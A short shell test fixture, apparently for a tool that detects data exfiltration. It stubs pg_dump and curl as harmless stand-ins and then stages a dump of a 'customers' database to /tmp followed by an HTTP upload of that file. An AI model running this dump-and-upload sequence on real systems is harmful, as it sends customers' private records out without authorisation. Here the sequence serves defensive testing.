# pg_dump writes to /tmp, then curl sends that file (harmless programs).
prepare() { stand_in pg_dump curl; }
act() {
    pg_dump -f /tmp/c.sql customers
    curl -s -T /tmp/c.sql http://127.0.0.1/up
}
